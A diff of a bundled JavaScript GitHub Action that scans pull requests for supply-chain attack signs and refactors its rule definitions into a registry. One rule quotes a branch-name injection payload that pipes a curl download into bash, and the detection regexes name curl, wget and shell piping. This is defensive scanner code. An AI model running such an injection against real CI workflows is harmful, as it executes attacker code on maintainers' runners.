-    id: 'branch-name-shell',
-    title: 'Shell syntax in the branch name',
-    severity: 'high',
-    why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
-    remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
-    spec: ['S8-16'],
-    references: [ULTRALYTICS]
-});
-const META_EMPTY_NEW = rule('meta', {
-    id: 'empty-pr-new-account',
-    title: 'Near-empty PR from a new account',
-    severity: 'medium',
-    why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
-    remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
-    spec: ['S8-16']
-});
-const META_BOT_IDENTITY = rule('meta', {
-    id: 'unverified-bot-identity',
-    title: 'Commit claims a bot identity without verification',
-    severity: 'high',
-    why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
-    remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
-    spec: ['S8-4'],
-    references: [TJ]
-});
-const META_GOVERNANCE = rule('meta', {
-    id: 'governance-edit',
-    title: 'CODEOWNERS, CI or scanner configuration changed',
-    severity: 'medium',
-    why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
-    remediation: 'Have a maintainer who owns CI review the change.',
-    spec: ['S6-1', 'S8-5']
-});
-const META_NEW_AUTHOR = rule('meta', {
-    id: 'new-author-sensitive-paths',
-    title: 'First-time contributor changes sensitive files',
-    severity: 'medium',
-    why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
-    remediation: 'Review these files line by line before approving workflow runs.',
-    spec: ['S8-16']
-});
-const META_AUTORUN = rule('meta', {
-    id: 'ide-autorun',
-    title: 'File that makes an IDE or agent run code',
-    severity: 'high',
-    why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
-    remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-const META_SUPPRESSION = rule('meta', {
-    id: 'suppression-added',
-    title: 'PR adds an inline suppression',
-    severity: 'medium',
-    why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
-    remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
-    spec: ['S8-16']
-});
-// --- secrets ---------------------------------------------------------------------------
-const SECRET = rule('secrets', {
-    id: 'credential',
-    title: 'Credential added',
-    severity: 'critical',
-    why: 'A committed credential is public as soon as the PR is pushed.',
-    remediation: 'Revoke the credential now, then remove it from the branch.',
-    spec: ['S6-7', 'S6-5'],
-    pathIgnorable: false
-});
-const RULES = [
-    WF_DANGEROUS_TRIGGER,
-    WF_TEMPLATE_INJECTION,
-    WF_SECRETS_EXFIL,
-    WF_TOJSON_SECRETS,
-    WF_SELF_HOSTED,
-    WF_UNPINNED,
-    WF_PERMISSIONS,
-    WF_UNTRUSTED_TRIGGER,
-    WF_RUNNER_REGISTRATION,
-    BUILD_SETUP_PY,
-    BUILD_BACKEND,
-    BUILD_NATIVE,
-    BUILD_AUTOTOOLS,
-    BUILD_TEST_HOOK,
-    BUILD_PRECOMMIT_LOCAL,
-    BUILD_PTH,
-    BUILD_IMPORT_PROCESS,
-    BIN_OPAQUE,
-    BIN_EXECUTABLE,
-    BIN_ARCHIVE_TESTS,
-    BIN_ONLY,
-    OBF_ENCODED_EXEC,
-    OBF_LONG_LITERAL,
-    OBF_DECOMPRESS,
-    OBF_CHR_CHAIN,
-    OBF_PACKER,
-    OBF_BUNDLE,
-    UNI_BIDI,
-    UNI_INVISIBLE,
-    UNI_HOMOGLYPH,
-    DEP_NEW,
-    DEP_TYPOSQUAT,
-    DEP_DIRECT_URL,
-    DEP_INDEX_URL,
-    META_REF_INJECTION,
-    META_EMPTY_NEW,
-    META_BOT_IDENTITY,
-    META_GOVERNANCE,
-    META_NEW_AUTHOR,
-    META_AUTORUN,
-    META_SUPPRESSION,
-    SECRET
-];
-const RULE_BY_ID = new Map(RULES.map((r) => [r.id, r]));
+const REGISTRY = new src/* RuleRegistry */.UD('pr-anomaly-scan', (0,src/* rulesOf */.fD)(RULES));
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
 // Opaque content: what a binary file is (magic bytes), how random it looks
@@ -10799,27 +10757,27 @@ async function scanBinary({ file, facts, oldSize }) {
     const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
     if (kind?.exec)
         return [
-            make(BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
+            make(RULES.BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
                 severity: 'high'
             })
         ];
     if (mismatch)
         return [
-            make(BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
+            make(RULES.BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
         ];
     if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
-        return [make(BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
+        return [make(RULES.BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
     }
     if (!kind) {
         // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
         const random = facts.entropy > 7.5 && facts.size > 256;
         if (random || COMPRESSED_EXT.has(ext)) {
             return [
-                make(inTests ? BIN_ARCHIVE_TESTS : BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
+                make(inTests ? RULES.BIN_ARCHIVE_TESTS : RULES.BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
             ];
         }
         if (facts.size > 1024 * 1024 || !inTests)
-            return [make(BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
+            return [make(RULES.BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
     }
     return [];
 }
@@ -10871,7 +10829,7 @@ function scanDependencies(file, baseText, headText) {
         const location = { file, line: d.line };
         const squat = (0,src/* findTyposquat */.eL)(d.name);
         if (squat) {
-            findings.push((0,src/* createFinding */.uP)(DEP_TYPOSQUAT, {
+            findings.push((0,src/* createFinding */.uP)(RULES.DEP_TYPOSQUAT, {
                 message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`,
                 evidence: d.rawName,
                 location,
@@ -10879,14 +10837,14 @@ function scanDependencies(file, baseText, headText) {
             }));
         }
         if (d.url || d.vcs) {
-            findings.push((0,src/* createFinding */.uP)(DEP_DIRECT_URL, {
+            findings.push((0,src/* createFinding */.uP)(RULES.DEP_DIRECT_URL, {
                 message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`,
                 evidence: d.vcs?.url ?? d.url ?? d.rawName,
                 location
             }));
         }
         if (!knownNames.has(d.name) && !squat) {
-            findings.push((0,src/* createFinding */.uP)(DEP_NEW, {
+            findings.push((0,src/* createFinding */.uP)(RULES.DEP_NEW, {
                 message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`,
                 evidence: d.rawName,
                 location
@@ -10898,7 +10856,7 @@ function scanDependencies(file, baseText, headText) {
         if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) ||
             baseOptions.has(`${o.option} ${o.value ?? ''}`))
             continue;
-        findings.push((0,src/* createFinding */.uP)(DEP_INDEX_URL, {
+        findings.push((0,src/* createFinding */.uP)(RULES.DEP_INDEX_URL, {
             message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`,
             evidence: `${o.option} ${o.value ?? ''}`.trim(),
             location: { file, line: o.line }
@@ -10938,7 +10896,7 @@ function refFindings(meta) {
         return [];
     const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
     return [
-        (0,src/* createFinding */.uP)(META_REF_INJECTION, {
+        (0,src/* createFinding */.uP)(RULES.META_REF_INJECTION, {
             message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
             evidence: meta.headRef.slice(0, 200),
             severity: strong ? 'critical' : 'medium',
@@ -10959,7 +10917,7 @@ function governanceFindings(paths, configPath) {
                     ? 'CI configuration'
                     : undefined;
         if (what)
-            out.push((0,src/* createFinding */.uP)(META_GOVERNANCE, {
+            out.push((0,src/* createFinding */.uP)(RULES.META_GOVERNANCE, {
                 message: `${p}: ${what}.`,
                 location: { file: p },
                 evidence: p,
@@ -10977,7 +10935,7 @@ function autorunFindings(path, text) {
     };
     const hit = (re, message) => re.test(text)
         ? [
-            (0,src/* createFinding */.uP)(META_AUTORUN, {
+            (0,src/* createFinding */.uP)(RULES.META_AUTORUN, {
                 message,
                 location: { file: path, line: line(re) },
                 evidence: (re.exec(text)?.[0] ?? '').slice(0, 120)
@@ -11006,7 +10964,7 @@ async function apiChecks(client, meta, opts) {
     const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
     const reportNewAuthor = (why) => {
         if (opts.diff.sensitive.length) {
-            out.findings.push((0,src/* createFinding */.uP)(META_NEW_AUTHOR, {
+            out.findings.push((0,src/* createFinding */.uP)(RULES.META_NEW_AUTHOR, {
                 message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
                 evidence: opts.diff.sensitive.slice(0, 5).join(', '),
                 key: `${meta.author}`,
@@ -11016,17 +10974,17 @@ async function apiChecks(client, meta, opts) {
     };
     if (!client || !meta.author || !meta.repo) {
         const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
-        for (const check of ['account-age', 'author-history', META_EMPTY_NEW.id])
+        for (const check of ['account-age', 'author-history', RULES.META_EMPTY_NEW.id])
             out.notChecked.push({ check, reason });
         if (botCommits.length)
             out.notChecked.push({
-                check: META_BOT_IDENTITY.id,
+                check: RULES.META_BOT_IDENTITY.id,
                 reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})`
             });
         if (newAuthorByEvent)
             reportNewAuthor(`author association ${meta.association}`);
         else if (!meta.association)
-            out.notChecked.push({ check: META_NEW_AUTHOR.id, reason });
+            out.notChecked.push({ check: RULES.META_NEW_AUTHOR.id, reason });
         return out;
     }
     const [owner, repo] = meta.repo.split('/');
@@ -11067,7 +11025,7 @@ async function apiChecks(client, meta, opts) {
         reportNewAuthor(`author association ${meta.association}`);
     if (ageDays !== undefined) {
         if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
-            out.findings.push((0,src/* createFinding */.uP)(META_EMPTY_NEW, {
+            out.findings.push((0,src/* createFinding */.uP)(RULES.META_EMPTY_NEW, {
                 message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
                 evidence: `${meta.author} created ${user.data.created_at}`,
                 key: meta.author
@@ -11075,7 +11033,7 @@ async function apiChecks(client, meta, opts) {
         }
     }
     else if (!out.notChecked.some((n) => n.check === 'account-age')) {
-        out.notChecked.push({ check: META_EMPTY_NEW.id, reason: 'account age unknown' });
+        out.notChecked.push({ check: RULES.META_EMPTY_NEW.id, reason: 'account age unknown' });
     }
     if (botCommits.length) {
         // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
@@ -11083,12 +11041,12 @@ async function apiChecks(client, meta, opts) {
         const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
             .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
             .join(' ')}}}`;
-        const data = await call(META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
+        const data = await call(RULES.META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
         if (data) {
             checked.forEach((c, i) => {
                 const sig = data.repository?.[`c${i}`]?.signature;
                 if (!sig?.isValid) {
-                    out.findings.push((0,src/* createFinding */.uP)(META_BOT_IDENTITY, {
+                    out.findings.push((0,src/* createFinding */.uP)(RULES.META_BOT_IDENTITY, {
                         message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
                         evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
                         key: c.sha
@@ -11125,7 +11083,7 @@ function riskScore(findings) {
         else
             strong += w;
     }
-    const family = (f) => RULE_BY_ID.get(f.ruleId)?.family;
+    const family = (f) => REGISTRY.get(f.ruleId)?.group;
     const has = (pred) => active.some(pred);
     const chains = [];
     if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') ||
@@ -11216,7 +11174,7 @@ class SecretCollector {
                 if (!l)
                     continue;
                 const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
-                out.push((0,src/* createFinding */.uP)(SECRET, {
+                out.push((0,src/* createFinding */.uP)(RULES.SECRET, {
                     message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
                     location: { file: path, line: l.line, column: m.loc.start.column + 1 },
                     evidence: `${kind} credential (masked)`,
@@ -11268,7 +11226,7 @@ function unicodeHits(path, lines, all) {
         const bidi = BIDI.exec(t);
         if (bidi) {
             hits.push({
-                rule: UNI_BIDI,
+                rule: RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(bidi[0])} reorders how this line is displayed.`,
                 evidence: text_short(t)
@@ -11278,7 +11236,7 @@ function unicodeHits(path, lines, all) {
         if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
             const c = BIDI_MARKS.exec(t)[0];
             hits.push({
-                rule: UNI_BIDI,
+                rule: RULES.UNI_BIDI,
                 line: l,
                 message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`,
                 evidence: text_short(t),
@@ -11289,7 +11247,7 @@ function unicodeHits(path, lines, all) {
         const inv = invisibleIn(t, code);
         if (inv) {
             hits.push({
-                rule: UNI_INVISIBLE,
+                rule: RULES.UNI_INVISIBLE,
                 line: l,
                 message: `Invisible character ${cp(inv)} in an added line.`,
                 evidence: text_short(t)
@@ -11299,7 +11257,7 @@ function unicodeHits(path, lines, all) {
         const glyph = homoglyphIn(t);
         if (glyph)
             hits.push({
-                rule: UNI_HOMOGLYPH,
+                rule: RULES.UNI_HOMOGLYPH,
                 line: l,
                 message: glyph.message,
                 evidence: text_short(t),
@@ -11443,7 +11401,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
                 DECOMPRESS.test(t) &&
                 (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
                 hits.push({
-                    rule: OBF_DECOMPRESS,
+                    rule: RULES.OBF_DECOMPRESS,
                     line: l,
                     message: 'Inline data is decompressed or unmarshalled.',
                     evidence: text_short(t)
@@ -11451,13 +11409,13 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
             }
             if (has.chr && CHR_CHAIN.test(t))
                 hits.push({
-                    rule: OBF_CHR_CHAIN,
+                    rule: RULES.OBF_CHR_CHAIN,
                     line: l,
                     message: 'A string is assembled from character codes.',
                     evidence: text_short(CHR_CHAIN.exec(t)[0])
                 });
             if (has.packer && PACKER.test(t))
-                hits.push({ rule: OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
+                hits.push({ rule: RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: text_short(t) });
         }
     }
     // Execution sinks matter only next to encoded or decoded data: looked for only then.
@@ -11467,7 +11425,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
     if (chained) {
         const at = decodeLine ?? encoded[0].line;
         hits.push({
-            rule: bundle ? OBF_BUNDLE : OBF_ENCODED_EXEC,
+            rule: bundle ? RULES.OBF_BUNDLE : RULES.OBF_ENCODED_EXEC,
             line: at,
             message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
             evidence: text_short(at.text),
@@ -11481,7 +11439,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
             continue;
         if (bundle) {
             hits.push({
-                rule: OBF_BUNDLE,
+                rule: RULES.OBF_BUNDLE,
                 line,
                 message: `A ${run.length}-character encoded literal is added to a bundled file.`,
                 evidence: text_short(run, 80),
@@ -11491,7 +11449,7 @@ function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n'))
         }
         else {
             hits.push({
-                rule: OBF_LONG_LITERAL,
+                rule: RULES.OBF_LONG_LITERAL,
                 line,
                 message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
                 evidence: text_short(run, 80),
@@ -11525,7 +11483,7 @@ function buildHits(path, lines, all) {
                 .filter(Boolean)
                 .join(', ');
             hits.push({
-                rule: BUILD_SETUP_PY,
+                rule: RULES.BUILD_SETUP_PY,
                 line: at,
                 message: `setup.py gains ${what}.`,
                 evidence: text_short(at.text),
@@ -11539,7 +11497,7 @@ function buildHits(path, lines, all) {
         const net = first(NETWORK);
         if (at)
             hits.push({
-                rule: BUILD_NATIVE,
+                rule: RULES.BUILD_NATIVE,
                 line: at,
                 message: 'Meson runs a command at configure or build time.',
                 evidence: text_short(at.text),
@@ -11552,7 +11510,7 @@ function buildHits(path, lines, all) {
         const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
         if (at)
             hits.push({
-                rule: BUILD_NATIVE,
+                rule: RULES.BUILD_NATIVE,
                 line: at,
                 message: 'CMake runs a command or downloads at configure time.',
                 evidence: text_short(at.text),
@@ -11565,7 +11523,7 @@ function buildHits(path, lines, all) {
         const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
         if (at) {
             hits.push({
-                rule: BUILD_AUTOTOOLS,
+                rule: RULES.BUILD_AUTOTOOLS,
                 line: at,
                 message: bad
                     ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
@@ -11580,7 +11538,7 @@ function buildHits(path, lines, all) {
         const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
         if (at)
             hits.push({
-                rule: BUILD_TEST_HOOK,
+                rule: RULES.BUILD_TEST_HOOK,
                 line: at,
                 message: `${name} gains process, network or exec calls.`,
                 evidence: text_short(at.text),
@@ -11592,7 +11550,7 @@ function buildHits(path, lines, all) {
         if (at) {
             const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
             hits.push({
-                rule: BUILD_BACKEND,
+                rule: RULES.BUILD_BACKEND,
                 line: at,
                 message: inTree
                     ? 'The build backend is loaded from code inside the repository (`backend-path`).'
@@ -11606,7 +11564,7 @@ function buildHits(path, lines, all) {
         const at = first(/^\s*-?\s*repo:\s*local\b/);
         if (at)
             hits.push({
-                rule: BUILD_PRECOMMIT_LOCAL,
+                rule: RULES.BUILD_PRECOMMIT_LOCAL,
                 line: at,
                 message: 'A local pre-commit hook runs a command from the repository.',
                 evidence: text_short(at.text)
@@ -11616,7 +11574,7 @@ function buildHits(path, lines, all) {
         const at = first(/^\s*import\s/) ?? lines[0];
         if (at)
             hits.push({
-                rule: BUILD_PTH,
+                rule: RULES.BUILD_PTH,
                 line: at,
                 message: at.text.trim().startsWith('import')
                     ? 'The .pth file runs code at interpreter start-up.'
@@ -11629,7 +11587,7 @@ function buildHits(path, lines, all) {
         const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
         if (at) {
             hits.push({
-                rule: BUILD_IMPORT_PROCESS,
+                rule: RULES.BUILD_IMPORT_PROCESS,
                 line: at,
                 message: 'A process or thread starts at module level, i.e. on import.',
                 evidence: text_short(at.text),
@@ -11665,7 +11623,7 @@ function applyInline(findings, ignores, file) {
     const valid = ignores.filter((i) => i.reason);
     const out = findings.map((f) => {
         const line = f.location?.line;
-        if (f.location?.file !== file || line === undefined || f.ruleId === META_SUPPRESSION.id)
+        if (f.location?.file !== file || line === undefined || f.ruleId === RULES.META_SUPPRESSION.id)
             return f;
         const ig = valid.find((i) => (i.line === line || i.line === line - 1) && i.rules.includes(f.ruleId));
         return ig
@@ -11831,10 +11789,10 @@ function scanWorkflow(file, baseText, headText) {
             (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
         const newTrigger = privileged.some((t) => !base?.on.has(t));
         if (usesHead && (newTrigger || isNew(usesHead.value))) {
-            add(WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
+            add(RULES.WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
         }
         else if (newTrigger) {
-            add(WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
+            add(RULES.WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
                 severity: 'medium',
                 confidence: 'low'
             });
@@ -11843,11 +11801,11 @@ function scanWorkflow(file, baseText, headText) {
     for (const s of scripts) {
         for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
             if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
-                add(WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
+                add(RULES.WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
             }
         }
         if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
-            add(WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
+            add(RULES.WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
     }
     // Secrets and an outside URL in the same job.
     const root = head.y.doc.contents;
@@ -11860,7 +11818,7 @@ function scanWorkflow(file, baseText, headText) {
                 OUTSIDE_URL.test(s.value) &&
                 (s.path.at(-1) !== 'run' || SEND.test(s.value)));
             if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
-                add(WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
+                add(RULES.WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
             }
             const runsOn = js.filter((s) => s.path[0] === 'runs-on');
             const kind = (0,src/* classifyRunsOn */.c7)(runsOn.map((s) => s.value));
@@ -11872,15 +11830,15 @@ function scanWorkflow(file, baseText, headText) {
             if (selfHosted &&
                 prReachable &&
                 (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
-                add(WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
+                add(RULES.WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
             }
         }
     }
     for (const s of all) {
         if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
-            add(WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
+            add(RULES.WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
         if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
-            add(WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
+            add(RULES.WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
         const permIdx = s.path.lastIndexOf('permissions');
         if (permIdx >= 0) {
             const scope = s.path.slice(permIdx + 1).join('.');
@@ -11888,13 +11846,13 @@ function scanWorkflow(file, baseText, headText) {
             const isNewGrant = !baseGrants.has(grantKey(s));
             if (isWriteGrant(s) && (isNewGrant || newlyUntrusted)) {
                 const { message, severity } = writeGrant(s.path.slice(0, permIdx), scope, s.value, untrusted, isNewGrant);
-                add(WF_PERMISSIONS, s.node, message, written, { severity });
+                add(RULES.WF_PERMISSIONS, s.node, message, written, { severity });
             }
         }
     }
     for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
         if (head.on.has(t) && !base?.on.has(t) && scripts.length)
-            add(WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
+            add(RULES.WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
     }
     const baseUses = new Set(base ? (0,src/* findUses */.O5)(base.y).map((u) => u.raw) : []);
     for (const u of (0,src/* findUses */.O5)(head.y)) {
@@ -11902,7 +11860,7 @@ function scanWorkflow(file, baseText, headText) {
             continue;
         const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && src/* FULL_SHA */.RG.test(u.ref));
         if (!pinned) {
-            findings.push((0,src/* createFinding */.uP)(WF_UNPINNED, {
+            findings.push((0,src/* createFinding */.uP)(RULES.WF_UNPINNED, {
                 message: `\`${u.raw}\` is not pinned to a commit SHA.`,
                 evidence: u.raw,
                 location: { file, line: u.line, column: u.column }
@@ -12029,7 +11987,7 @@ async function scanPr(opts) {
         const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
         if (changedBinaries.length && !textChanged) {
             const first = changedBinaries[0];
-            findings.push((0,src/* createFinding */.uP)(BIN_ONLY, {
+            findings.push((0,src/* createFinding */.uP)(RULES.BIN_ONLY, {
                 message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries
                     .slice(0, 5)
                     .map((f) => f.path)
@@ -12055,7 +12013,7 @@ async function scanPr(opts) {
             for (const bad of r.invalid)
                 notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
             for (const ig of ignores.filter((i) => i.reason)) {
-                out.push((0,src/* createFinding */.uP)(META_SUPPRESSION, {
+                out.push((0,src/* createFinding */.uP)(RULES.META_SUPPRESSION, {
                     message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`,
                     location: { file, line: ig.line },
                     evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`,
@@ -12071,7 +12029,7 @@ async function scanPr(opts) {
                 notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
         }
         catch (e) {
-            notChecked.push({ check: SECRET.id, reason: `secretlint failed: ${(0,src/* oneLine */.TN)(e)}` });
+            notChecked.push({ check: RULES.SECRET.id, reason: `secretlint failed: ${(0,src/* oneLine */.TN)(e)}` });
         }
     }
     catch (e) {
@@ -12107,7 +12065,7 @@ async function scanPr(opts) {
     const allowed = applyAllowlist(findings, opts.allow, opts.today, notes);
     const score = riskScore(allowed);
     return {
-        rules: RULES,
+        rules: REGISTRY.list(),
         findings: allowed,
         notChecked,
         errors,
@@ -12153,9 +12111,13 @@ function applyAllowlist(findings, allow, today, notes) {
     return out;
 }
 
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/config.schema.json
+const config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'pr-anomaly-scan\' section of .github/security-actions.yml","description":"Settings of pr-anomaly-scan (docs/pr-anomaly-scan.md).","type":"object"}');
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
 // pr-anomaly-scan adapter: read the inputs and event, call the engine, and
 // keep one PR comment up to date.
+
+
 
 
 
@@ -12235,6 +12197,8 @@ async function baseConfig(ctx, repo, base, path) {
 const scores = new WeakMap();
 const definition = {
     name: 'pr-anomaly-scan',
+    rules: REGISTRY,
+    configSchema: config_schema_namespaceObject,
     async run(ctx) {
         const { inputs } = ctx;
         const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
@@ -12337,7 +12301,7 @@ async function run(runtime) {
 
 /***/ }),
 
-/***/ 8863:
+/***/ 2530:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -12347,10 +12311,12 @@ __nccwpck_require__.d(__webpack_exports__, {
   Bi: () => (/* reexport */ DEFAULT_CONFIG_PATH),
